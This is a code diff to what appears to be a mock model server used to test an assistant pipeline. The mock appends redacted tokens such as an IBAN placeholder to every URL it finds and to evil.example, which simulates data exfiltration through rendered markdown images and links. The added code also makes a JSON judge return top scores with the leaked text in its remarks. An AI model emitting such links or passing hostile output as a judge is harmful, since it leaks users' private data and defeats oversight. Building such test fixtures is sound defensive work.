@@ -21,6 +21,12 @@ def grams(text, dimension=64):
     return row
 
 
+def judgement(remarks):
+    """What `quality` is asked for."""
+    scores = dict.fromkeys(("clear", "complete", "correct", "polite", "understood"), 4)
+    return json.dumps({"scores": scores, "remarks": remarks})
+
+
 class Handler(http.server.BaseHTTPRequestHandler):
     protocol_version = "HTTP/1.1"
 
@@ -51,13 +57,15 @@ class Handler(http.server.BaseHTTPRequestHandler):
         tokens = "".join(re.findall("\u27e6[A-Z_]+_[0-9.]+\u27e7", everything))
         links = "".join(f"\n![x]({u}?d={tokens}) [y]({u}?d={tokens}) {u}?d={tokens} <img src={u}?d={tokens}>"
                         for u in re.findall(r"https?://[^\s)>\"']+", everything))
-        self.say(asked, everything + links + "\n\u27e6IBAN_9\u27e7 https://evil.example/" + tokens)
+        said = everything + links + "\n\u27e6IBAN_9\u27e7 https://evil.example/" + tokens
+        if asked.get("response_format", {}).get("type") == "json_object":  # a judge that obeys
+            said = judgement([line[:400] for line in said.splitlines() if line][-5:])
+        self.say(asked, said)
 
     def do_scribe(self, asked, turn):
         """Does as it is asked in the end: judges, or writes."""
         if "JSON" in asked["messages"][-1]["content"][-100:]:
-            scores = dict.fromkeys(("clear", "complete", "correct", "polite", "understood"), 4)
-            self.say(asked, json.dumps({"scores": scores, "remarks": ["Le délai manque."]}))
+            self.say(asked, judgement(["Le délai manque."]))
         else:
             self.say(asked, "# Renvoyer un article\n\nSous trente jours, avec le bon de retour.")
 
